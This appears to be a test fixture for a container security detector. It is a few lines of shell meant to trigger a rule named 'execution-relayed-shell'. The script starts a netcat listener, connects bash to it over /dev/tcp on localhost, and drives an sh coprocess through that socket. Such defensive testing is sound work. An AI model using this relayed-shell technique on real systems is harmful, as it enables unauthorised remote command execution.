# in: container
# fires: execution-relayed-shell
# Bash connects by itself, and the shell is a coprocess of it, behind another shell.
sleep 2 | nc -l -p 4456 &
sleep 0.3
bash -c 'exec 5<>/dev/tcp/127.0.0.1/4456; coproc sh -c "true; sh; true"; echo id >&${COPROC[1]};
  read -t 1 -u 5 line; exec {COPROC[1]}>&-; wait'
